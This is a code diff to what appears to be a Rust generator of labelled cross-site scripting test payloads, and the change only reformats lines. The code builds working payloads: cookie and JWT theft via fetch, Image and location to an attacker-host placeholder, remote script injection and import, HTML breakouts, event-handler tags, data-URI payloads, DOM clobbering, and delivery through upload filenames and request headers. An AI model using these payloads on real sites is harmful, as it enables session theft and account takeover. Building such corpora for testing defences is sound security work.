@@ -40,16 +40,25 @@ pub fn js_payload(rng: &mut Rng) -> (String, &'static str) {
         7 => (format!("setTimeout('{callee}({quoted})'{})", rng.pick(&["", ",0", ",100"])), "settimeout-string"),
         8 => (format!("{}('{callee}({quoted})')()", rng.pick(&["Function", "new Function", "window.Function"])), "function-ctor"),
         9 => (format!("eval(String.fromCharCode({}))", char_codes(&format!("{callee}({arg})"))), "fromcharcode"),
-        10 => (format!("fetch('{host}/?c='+{})", rng.pick(&["document.cookie", "btoa(document.cookie)", "localStorage.getItem('jwt')"])), "exfil-fetch"),
+        10 => (
+            format!("fetch('{host}/?c='+{})", rng.pick(&["document.cookie", "btoa(document.cookie)", "localStorage.getItem('jwt')"])),
+            "exfil-fetch",
+        ),
         11 => (format!("new Image().src='{host}/?'+document.cookie"), "exfil-image"),
-        12 => (format!("{}='{host}/?c='+document.cookie", rng.pick(&["location", "document.location", "location.href", "top.location"])), "exfil-location"),
+        12 => (
+            format!("{}='{host}/?c='+document.cookie", rng.pick(&["location", "document.location", "location.href", "top.location"])),
+            "exfil-location",
+        ),
         13 => (format!("import('{host}/x.js')"), "dynamic-import"),
         14 => (format!("{}({callee})", rng.pick(&["[1].find", "[1].map", "[0].forEach", "Promise.resolve(1).then"])), "callback-sink"),
         15 => (format!("onerror={callee};throw {arg}"), "throw-onerror"),
         16 => (format!("(0,{callee})({arg})"), "comma-call"),
         17 => (format!("{callee}?.({arg})"), "optional-call"),
         18 => {
-            let s = rng.pick(&["document.body.appendChild(document.createElement('script')).src", "document.head.append(Object.assign(document.createElement('script'),{src:"]);
+            let s = rng.pick(&[
+                "document.body.appendChild(document.createElement('script')).src",
+                "document.head.append(Object.assign(document.createElement('script'),{src:",
+            ]);
             if s.ends_with("src:") {
                 (format!("{s}'{host}/x.js'}}))"), "script-inject")
             } else {
@@ -97,8 +106,26 @@ fn char_codes(text: &str) -> String {
 /// What an attacker closes before the markup: nothing, an attribute, a raw-text element, a
 /// comment.
 const HTML_BREAKOUTS: &[&str] = &[
-    "", "", "\">", "'>", "\"/>", "'/>", "</title>", "</textarea>", "</style>", "</script>", "-->", "--!>", "]]>", "</noscript>",
-    "</iframe>", "\">'>", "</option></select>", "\"></a>", "`>", "</xmp>",
+    "",
+    "",
+    "\">",
+    "'>",
+    "\"/>",
+    "'/>",
+    "</title>",
+    "</textarea>",
+    "</style>",
+    "</script>",
+    "-->",
+    "--!>",
+    "]]>",
+    "</noscript>",
+    "</iframe>",
+    "\">'>",
+    "</option></select>",
+    "\"></a>",
+    "`>",
+    "</xmp>",
 ];
 
 /// Between a tag name and its first attribute, and between attributes.
@@ -125,12 +152,22 @@ fn handler_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
         2 => (format!("<body{g}onload={v}>"), "body-onload"),
         3 => (format!("<details{g}open{g}ontoggle={v}>"), "details-ontoggle"),
         4 => (format!("<{}{g}src=x{g}onerror={v}>", rng.pick(&["video", "audio", "image", "input type=image"])), "media-onerror"),
-        5 => (format!("<{}{g}autofocus{g}onfocus={v}>", rng.pick(&["input", "select", "textarea", "keygen", "button", "a href=#"])), "autofocus-onfocus"),
+        5 => (
+            format!("<{}{g}autofocus{g}onfocus={v}>", rng.pick(&["input", "select", "textarea", "keygen", "button", "a href=#"])),
+            "autofocus-onfocus",
+        ),
         6 => (format!("<iframe{g}onload={v}>"), "iframe-onload"),
         7 => (format!("<svg><animate{g}onbegin={v}{g}attributeName=x{g}dur=1s>"), "svg-animate"),
         8 => (format!("<svg><set{g}onbegin={v}{g}attributename=x>"), "svg-set"),
         9 => (format!("<math><maction{g}actiontype=statusline{g}onclick={v}>x</maction></math>"), "mathml"),
-        10 => (format!("<{}{g}{}={v}>x", rng.pick(&["x-widget", "my-el", "custom-tag", "xss", "abc-def"]), rng.pick(&["onclick", "onpointerover", "onmouseover", "tabindex=1 autofocus onfocus"])), "custom-element"),
+        10 => (
+            format!(
+                "<{}{g}{}={v}>x",
+                rng.pick(&["x-widget", "my-el", "custom-tag", "xss", "abc-def"]),
+                rng.pick(&["onclick", "onpointerover", "onmouseover", "tabindex=1 autofocus onfocus"])
+            ),
+            "custom-element",
+        ),
         11 => (format!("<marquee{g}onstart={v}>"), "marquee"),
         12 => (format!("<div{g}style=\"animation-name:spin\"{g}onanimationstart={v}>"), "css-animation-event"),
         13 => (format!("<audio{g}controls><source{g}src=x{g}onerror={v}></audio>"), "source-onerror"),
@@ -187,7 +224,13 @@ fn data_uri_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
         0 => (format!("<iframe{g}src=\"data:text/html;base64,{}\">", b64(&html)), "data-base64"),
         1 => (format!("<object{g}data=\"data:text/html,{}\">", percent_specials(&html)), "data-html"),
         2 => (format!("<iframe{g}srcdoc=\"{}\">", html.replace('<', "&lt;").replace('>', "&gt;")), "srcdoc"),
-        3 => (format!("<embed{g}src=\"data:image/svg+xml;base64,{}\">", b64(&format!("<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>"))), "data-svg"),
+        3 => (
+            format!(
+                "<embed{g}src=\"data:image/svg+xml;base64,{}\">",
+                b64(&format!("<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>"))
+            ),
+            "data-svg",
+        ),
         _ => (format!("<script{g}src=\"data:,{}\"></script>", js.replace(' ', "%20")), "script-data-src"),
     }
 }
@@ -220,9 +263,25 @@ fn dom_takeover(rng: &mut Rng, js: &str) -> (String, &'static str) {
     match rng.below(5) {
         0 => (format!("<base href=\"{host}/\">"), "base-href"),
         1 => (format!("<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">"), "meta-refresh-js"),
-        2 => (format!("<meta http-equiv=refresh content=\"0; url=data:text/html;base64,{}\">", b64(&format!("<script>{js}</script>"))), "meta-refresh-data"),
-        3 => (format!("<a id={n} href=\"{host}/x.js\"></a><a id={n} name=src href=\"{host}/x.js\">", n = rng.pick(&["defaultConfig", "CONFIG", "cdnHost", "scriptUrl"])), "dom-clobber"),
-        _ => (format!("<form id=\"{}\"><input name=\"{}\" value=\"{host}/x.js\">", rng.pick(&["config", "settings", "app"]), rng.pick(&["src", "url", "attributes", "action"])), "dom-clobber-form"),
+        2 => (
+            format!("<meta http-equiv=refresh content=\"0; url=data:text/html;base64,{}\">", b64(&format!("<script>{js}</script>"))),
+            "meta-refresh-data",
+        ),
+        3 => (
+            format!(
+                "<a id={n} href=\"{host}/x.js\"></a><a id={n} name=src href=\"{host}/x.js\">",
+                n = rng.pick(&["defaultConfig", "CONFIG", "cdnHost", "scriptUrl"])
+            ),
+            "dom-clobber",
+        ),
+        _ => (
+            format!(
+                "<form id=\"{}\"><input name=\"{}\" value=\"{host}/x.js\">",
+                rng.pick(&["config", "settings", "app"]),
+                rng.pick(&["src", "url", "attributes", "action"])
+            ),
+            "dom-clobber-form",
+        ),
     }
 }
 
@@ -296,7 +355,10 @@ fn carried(rng: &mut Rng, markup: &str) -> (Carrier, &'static str) {
                 // A header line holds no line break: whitespace instead.
                 markup.replace('"', "'").replace(['\r', '\n'], " ")
             );
-            (Carrier::Request(Request::new("POST", "/upload").header("Content-Type", "multipart/form-data; boundary=rt").body(&body)), "filename")
+            (
+                Carrier::Request(Request::new("POST", "/upload").header("Content-Type", "multipart/form-data; boundary=rt").body(&body)),
+                "filename",
+            )
         }
         2 => (Carrier::Header("referer"), "referer"),
         3 => (Carrier::Header("user-agent"), "user-agent"),
